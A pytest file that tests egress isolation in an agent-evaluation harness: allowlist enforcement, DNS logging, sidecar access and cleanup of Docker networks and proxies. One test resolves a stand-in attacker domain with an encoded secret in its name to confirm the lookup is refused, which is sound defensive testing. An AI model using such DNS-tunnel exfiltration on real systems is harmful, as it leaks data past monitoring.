"""Egress through whole cells on the Docker executor: records, cleanup, Ctrl-C leaves no network or proxy."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
import uuid
from pathlib import Path

import docker.errors
import pytest

from pytest_maka.executors.docker import DockerOptions
from pytest_maka.executors.docker import labels as L
from pytest_maka.executors.docker.cleanup import sweep
from pytest_maka.executors.docker.compose import compose_command
from pytest_maka.executors.docker.engines import Engine
from pytest_maka.testing.servers import EGRESS_TOKEN

from ..conftest import Cohort
from .helpers import start_run, wait_until

pytestmark = pytest.mark.docker

FETCH = (
    'python3 -c "import sys, urllib.request as u\n'
    "for url in sys.argv[1:]:\n"
    "    try: print(url, u.urlopen(url, timeout=10).read().decode())\n"
    "    except Exception as e: print(url, 'FAILED', e)\" "
)


def _executor(state: Path, upstream: tuple[str, str, int]) -> dict[str, object]:
    network, ip, _ = upstream
    return {"kind": "docker", "state_dir": str(state), "egress_network": network, "egress_hosts": {"allowed.test": ip}}


def _egress_leftovers(docker_api, cell_prefix: str) -> list[str]:  # type: ignore[no-untyped-def]
    nets = [n["Name"] for n in docker_api.networks(filters={"label": f"{L.ROLE}=egress"})]
    nets = [n for n in nets if (docker_api.inspect_network(n)["Labels"] or {}).get(L.CELL, "").startswith(cell_prefix)]
    proxies = [
        c["Names"][0]
        for c in docker_api.containers(all=True, filters={"label": f"{L.ROLE}=egress-proxy"})
        if c["Labels"].get(L.CELL, "").startswith(cell_prefix)
    ]
    return nets + proxies


def test_cell_reaches_its_allowlist_and_leaves_nothing(
    cohort: Cohort, docker_api, egress_upstream, tmp_path_factory: pytest.TempPathFactory
) -> None:  # type: ignore[no-untyped-def]
    _, ip, port = egress_upstream
    task = f"egress-ok-{uuid.uuid4().hex[:8]}"  # other runs on the same engine have cells named like ours
    cohort.task(task)
    urls = f"http://allowed.test:{port}/agent http://unlisted.test:{port}/t http://{ip}:{port}/ip"
    cohort.write(
        subjects=[{"name": "a", "kind": "command", "command": FETCH + urls + " > $MAKA_LOGS_DIR/net.txt"}],
        executor=_executor(tmp_path_factory.mktemp("state"), egress_upstream),
        policy={"egress": [f"allowed.test:{port}"]},
    )
    result = cohort.run_subprocess(timeout=300)
    record = cohort.results()[f"{task}[a-r0]"]
    assert record["status"] == "agent_failure", result.stdout.str()[-2000:]
    seen = (cohort.out / record["artifacts"]["agent_logs"] / "net.txt").read_text()
    assert seen.count(EGRESS_TOKEN) == 1 and seen.count("403") == 2, seen
    agent = record["isolation"]["network"]["phases"]["agent"]
    assert agent["connections"] == {"allowed": 1, "refused": 2}
    assert set(agent["refused_destinations"]) == {f"unlisted.test:{port}", f"{ip}:{port}"}
    assert record["isolation"]["network"]["agent"] == "allowlist"
    assert _egress_leftovers(docker_api, task) == []


def test_dns_questions_are_logged_and_bytes_counted(
    cohort: Cohort, docker_api, egress_upstream, tmp_path_factory: pytest.TempPathFactory
) -> None:  # type: ignore[no-untyped-def]
    """A name resolved in the container asks the proxy's responder: logged, refused; the resolver is put back."""
    _, _, port = egress_upstream
    task = f"egress-dns-{uuid.uuid4().hex[:8]}"
    cohort.task(task)
    resolve = (
        "python3 -c \"import socket\nfor n in ('exfil-c2VjcmV0.evil.test', 'allowed.test'):\n"
        "    try: print(n, socket.getaddrinfo(n, 80))\n"
        "    except OSError as e: print(n, 'FAILED', e)\" > $MAKA_LOGS_DIR/dns.txt 2>&1; "
    )
    cohort.write(
        subjects=[{"name": "a", "kind": "command", "command": resolve + FETCH + f"http://allowed.test:{port}/a"}],
        executor=_executor(tmp_path_factory.mktemp("state"), egress_upstream),
        policy={"egress": [f"allowed.test:{port}"]},
    )
    result = cohort.run_subprocess(timeout=300)
    record = cohort.results()[f"{task}[a-r0]"]
    assert record["status"] == "agent_failure", result.stdout.str()[-2000:]
    seen = (cohort.out / record["artifacts"]["agent_logs"] / "dns.txt").read_text()
    assert seen.count("FAILED") == 2, seen
    events = [json.loads(x) for x in (cohort.out / record["artifacts"]["egress_log"]).read_text().splitlines()]
    asked = {e["destination"] for e in events if e["method"] == "DNS" and not e["allowed"]}
    assert {"exfil-c2VjcmV0.evil.test:53", "allowed.test:53"} <= asked, events
    (ok,) = [e for e in events if e["allowed"]]
    assert ok["destination"] == f"allowed.test:{port}" and ok["bytes_in"] > len(EGRESS_TOKEN), ok
    assert ok["bytes"] == ok["bytes_out"] + ok["bytes_in"]
    assert _egress_leftovers(docker_api, task) == []


def test_ctrl_c_removes_egress_networks_and_proxies(
    cohort: Cohort, docker_api, egress_upstream, tmp_path_factory: pytest.TempPathFactory
) -> None:  # type: ignore[no-untyped-def]
    _, _, port = egress_upstream
    prefix = f"egress-slow-{uuid.uuid4().hex[:8]}"
    for i in range(2):
        cohort.task(f"{prefix}-{i}", agent_timeout=300)
    cohort.write(
        subjects=[{"name": "a", "kind": "command", "command": FETCH + f"http://allowed.test:{port}/x; sleep 300"}],
        executor=_executor(tmp_path_factory.mktemp("state"), egress_upstream),
        policy={"egress": [f"allowed.test:{port}"]},
    )
    proc = start_run(cohort, "-n", "2")
    try:
        wait_until(lambda: len(_egress_leftovers(docker_api, prefix)) >= 4, 180)
        assert len(_egress_leftovers(docker_api, prefix)) == 4, "two networks and two proxies while running"
        os.killpg(proc.pid, signal.SIGINT)
        out, _ = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
    assert _egress_leftovers(docker_api, prefix) == [], out.decode(errors="replace")[-3000:]


def test_docker_cleanup_removes_egress_networks_of_dead_runs(docker_api, state_dir: Path) -> None:  # type: ignore[no-untyped-def]
    dead = subprocess.Popen(["true"])
    dead.wait()
    labels = {**L.owner_labels(), L.OWNER_PID: str(dead.pid), L.OWNER_START: "0", L.ROLE: "egress", L.CELL: "dead"}
    alive = {**L.owner_labels(), L.ROLE: "egress", L.CELL: "alive"}
    gone = docker_api.create_network("maka-test-dead-egress", internal=True, labels=labels)["Id"]
    kept = docker_api.create_network("maka-test-live-egress", internal=True, labels=alive)["Id"]
    try:
        options = DockerOptions()
        engine = Engine(options.engine_list()[0], slots=1, state_dir=state_dir, retry_sec=0)
        removed = sweep(engine)  # (a concurrent run's sweep may have removed the dead one first)
        assert not any("maka-test-live-egress" in r for r in removed)
        names = {n["Name"] for n in docker_api.networks()}
        assert "maka-test-dead-egress" not in names and "maka-test-live-egress" in names
    finally:
        for net in (gone, kept):
            with contextlib.suppress(docker.errors.NotFound):
                docker_api.remove_network(net)


def test_a_proxy_that_cannot_start_is_infra_failure_and_leaves_nothing(
    cohort: Cohort, docker_api, tmp_path_factory: pytest.TempPathFactory
) -> None:  # type: ignore[no-untyped-def]
    cohort.task("egress-broken")
    cohort.write(
        subjects=[{"name": "a", "kind": "command", "command": FETCH + "http://allowed.test:8080/"}],
        executor={
            "kind": "docker",
            "state_dir": str(tmp_path_factory.mktemp("state")),
            "egress_network": "maka-test-no-such-network",
        },
        policy={"egress": ["allowed.test:8080"]},
        retries={"infra": 0},
    )
    cohort.run_subprocess(timeout=300)
    record = cohort.results()["egress-broken[a-r0]"]
    assert record["status"] == "infra_failure"
    assert "egress proxy" in record["error"]["message"] and "maka-test-no-such-network" in record["error"]["message"]
    assert (record.get("agent") or {}).get("exit_code") is None, "the subject never ran"
    assert _egress_leftovers(docker_api, "egress-broken") == []


# --- compose sidecars: the `services` mode, and an allowlist beside the sidecars -------------------
SIDECAR_COMPOSE = """\
services:
  main:
    build:
      context: .
  web:
    image: python:3.11-slim
    command: ["sh", "-c", "mkdir -p /srv && echo from-web > /srv/index.txt && exec python3 -m http.server 8000 -d /srv"]
    healthcheck:
      test: ["CMD", "python3", "-c", "import urllib.request as u; u.urlopen('http://127.0.0.1:8000')"]
      interval: 1s
      retries: 60
"""


NO_REWARD = "echo 0 > /logs/verifier/reward.txt\n"


def _sidecar_task(cohort: Cohort, name: str) -> None:
    from .test_image_run import harbor_task

    task = harbor_task(cohort.tasks, name, dockerfile="FROM python:3.11-slim\n", solve="true\n", test=NO_REWARD)
    (task / "environment" / "docker-compose.yaml").write_text(SIDECAR_COMPOSE)


@pytest.mark.skipif(compose_command() is None, reason="Docker Compose v2 (the 'docker compose' plugin) is absent")
def test_services_mode_reaches_the_sidecars_by_name_and_nothing_else(
    cohort: Cohort, docker_api, egress_upstream, tmp_path_factory: pytest.TempPathFactory
) -> None:  # type: ignore[no-untyped-def]
    _, ip, port = egress_upstream
    task = f"egress-services-{uuid.uuid4().hex[:8]}"
    _sidecar_task(cohort, task)
    urls = f"http://web:8000/index.txt http://{ip}:{port}/direct"
    cohort.write(
        subjects=[{"name": "a", "kind": "command", "command": FETCH + urls + " > $MAKA_LOGS_DIR/net.txt"}],
        executor=_executor(tmp_path_factory.mktemp("state"), egress_upstream),
        retries={"infra": 0},
    )
    result = cohort.run_subprocess(timeout=600)
    record = cohort.results()[f"{task}[a-r0]"]
    assert record["status"] == "agent_failure", result.stdout.str()[-3000:]
    seen = (cohort.out / record["artifacts"]["agent_logs"] / "net.txt").read_text()
    assert "from-web" in seen and EGRESS_TOKEN not in seen and seen.count("FAILED") == 1, seen
    network = record["isolation"]["network"]
    assert network["agent"] == network["verifier"] == network["setup"] == "services", network
    assert network["phases"]["agent"] == {"mode": "services", "declared": "none", "services": ["web"]}
    assert not (cohort.out / record["artifacts"]["agent_logs"]).parent.joinpath("egress-build.log").exists()
    assert _egress_leftovers(docker_api, task) == []


@pytest.mark.skipif(compose_command() is None, reason="Docker Compose v2 (the 'docker compose' plugin) is absent")
def test_an_allowlist_beside_sidecars_reaches_both_and_is_refused_elsewhere(
    cohort: Cohort, docker_api, egress_upstream, tmp_path_factory: pytest.TempPathFactory
) -> None:  # type: ignore[no-untyped-def]
    port = egress_upstream[2]
    task = f"egress-sidecar-allow-{uuid.uuid4().hex[:8]}"
    _sidecar_task(cohort, task)
    urls = f"http://web:8000/index.txt http://allowed.test:{port}/agent http://unlisted.test:{port}/t"
    command = f"echo NO_PROXY=$NO_PROXY > $MAKA_LOGS_DIR/net.txt; {FETCH}{urls} >> $MAKA_LOGS_DIR/net.txt"
    cohort.write(
        subjects=[{"name": "a", "kind": "command", "command": command}],
        executor=_executor(tmp_path_factory.mktemp("state"), egress_upstream),
        policy={"egress": [f"allowed.test:{port}"]},
        retries={"infra": 0},
    )
    result = cohort.run_subprocess(timeout=600)
    record = cohort.results()[f"{task}[a-r0]"]
    assert record["status"] == "agent_failure", result.stdout.str()[-3000:]
    seen = (cohort.out / record["artifacts"]["agent_logs"] / "net.txt").read_text()
    no_proxy = seen.splitlines()[0]
    assert "web" in no_proxy.split("=", 1)[1].split(","), no_proxy
    assert "from-web" in seen and seen.count(EGRESS_TOKEN) == 1 and seen.count("403") == 1, seen
    agent = record["isolation"]["network"]["phases"]["agent"]
    assert agent["mode"] == "allowlist" and agent["services"] == ["web"], agent
    assert agent["connections"] == {"allowed": 1, "refused": 1}, agent
    assert agent["refused_destinations"] == {f"unlisted.test:{port}": 1}
    assert record["isolation"]["network"]["verifier"] == "services"
    assert _egress_leftovers(docker_api, task) == []
